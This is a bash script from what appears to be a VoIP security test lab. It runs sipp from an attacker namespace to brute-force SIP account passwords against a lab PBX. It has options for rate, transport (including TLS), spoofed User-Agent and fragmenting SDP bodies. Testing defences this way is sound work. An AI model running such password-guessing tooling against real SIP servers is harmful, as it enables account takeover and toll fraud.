#!/usr/bin/env bash
# Password brute force with sipp from the attacker namespace: one call per password,
# each REGISTER (or INVITE) -> challenge -> request with a wrong password -> failure.
#
#   LAB_ID=ID bruteforce.sh [--family 4|6] [--transport udp|tcp|tls] [--src ADDR]
#        [--user 100] [--count N] [--rate PER_S] [--method REGISTER|INVITE]
#        [--target NUMBER] [--ua STRING] [--passwords FILE] [--port N]
#        [--period MS] [--challenge 401|407] [--sdp BYTES]
#        [--timeout S] [--background] [--tag NAME]
# Defaults: IPv4, UDP, from the attacker's main address, user 100, 20 guesses at 5/s,
# REGISTER, no User-Agent, sipp/passwords.txt, a system-chosen source port, 60 s.
# --period: the rate is RATE guesses per PERIOD ms (default 1000; 5 per 4000 = 1.25/s).
# --challenge: what an INVITE is challenged with (407; 401 for a PJSIP-style PBX).
# --sdp: INVITEs carry an SDP body of about BYTES (larger than an MTU: IP fragments).
# --transport tls: sipp (no TLS in Debian's build) over socat's TLS to port 5061
# (lib.sh tls_tunnel; the lab must be up with LAB_TLS=1).
# The count is capped by the number of passwords; the run ends by itself after
# --timeout at the latest.
set -euo pipefail
# shellcheck source=lib.sh
source "$(dirname "${BASH_SOURCE[0]}")/lib.sh"

family=4 transport=udp src="" user=100 count=20 rate=5 method=REGISTER target=0044123456789
ua="" passwords="$LAB_DIR/sipp/passwords.txt" port="" timeout=60 bg="" tag="" period=1000 challenge="" sdp=0
while [ $# -gt 0 ]; do
  case "$1" in
  -h | --help) show_help "$0"; exit 0 ;;
  --family) family="$2"; shift 2 ;;
  --transport) transport="$2"; shift 2 ;;
  --src) src="$2"; shift 2 ;;
  --user) user="$2"; shift 2 ;;
  --count) count="$2"; shift 2 ;;
  --rate) rate="$2"; shift 2 ;;
  --method) method="$2"; shift 2 ;;
  --target) target="$2"; shift 2 ;;
  --ua) ua="$2"; shift 2 ;;
  --passwords) passwords="$2"; shift 2 ;;
  --port) port="$2"; shift 2 ;;
  --period) period="$2"; shift 2 ;;
  --challenge) challenge="$2"; shift 2 ;;
  --sdp) sdp="$2"; shift 2 ;;
  --timeout) timeout="$2"; shift 2 ;;
  --background) bg=1; shift ;;
  --tag) tag="$2"; shift 2 ;;
  *) die "bruteforce.sh: unknown argument '$1'" ;;
  esac
done
check_family "$family"
check_transport "$transport" tls
check_int count "$count"
check_int rate "$rate"
check_int timeout "$timeout"
check_int period "$period"
check_int sdp "$sdp"
((period >= 100 && period <= 600000)) || die "period must be 100-600000 ms"
[ -z "$port" ] || check_int port "$port"
[[ "$target" =~ ^[0-9A-Za-z]+$ ]] || die "bad target '$target'"
((rate >= 1 && timeout >= 1 && timeout <= 600)) || die "rate must be >= 1 and timeout 1-600 s"
lab_from_env
if [ -z "$src" ]; then
  src="$ATK4"
  [ "$family" = 6 ] && src="$ATK6"
fi
check_atk_addr "$src"
[ -n "$tag" ] || tag="bf-$(echo "$src" | tr -c '0-9a-f\n' '-')-$transport"
[[ "$tag" =~ ^[a-z0-9-]+$ ]] || die "bad tag '$tag'"

mkdir -p "$RUN/sipp"
scenario="$RUN/sipp/$tag.xml"
"$LAB_DIR/sipp/gen-bruteforce.sh" "$user" "$passwords" "$method" "$ua" "$challenge" "$sdp" >"$scenario"
# sipp 3.6.1 silently runs nothing when a scenario exceeds ~64 KB (about 42 passwords
# here): refuse loudly instead of "succeeding" without a single guess.
size=$(stat -c %s "$scenario")
if [ "$size" -gt 60000 ]; then
  echo "bruteforce: $passwords makes a ${size}-byte scenario; sipp 3.6.1 loads at most ~64 KB (use at most 40 passwords per run)" >&2
  exit 2
fi
npw="$(grep -c '<label id="p' "$scenario")"
((count <= npw)) || count="$npw"
args=(-sf "$scenario" -t "$(sipp_transport "$transport")" -i "$src"
  -key target "$target" -r "$rate" -rp "$period" -l 10 -m "$count"
  -timeout "${timeout}s" -recv_timeout 3000 -max_retrans 2 -nostdin)
[ -z "$port" ] || args+=(-p "$port")
target="$(pbx_target "$family")"
if [ "$transport" = tls ]; then
  tls_tunnel "$tag-tls" "$NS_ATK" "$src" "$family"
  target="$TLS_TARGET"
fi
spawn "$tag" "$NS_ATK" sipp "${args[@]}" "$target"
if [ -z "$bg" ]; then
  wait_named "$tag" "$((timeout + 5))"
  [ "$transport" != tls ] || stop_named "$tag-tls"
fi
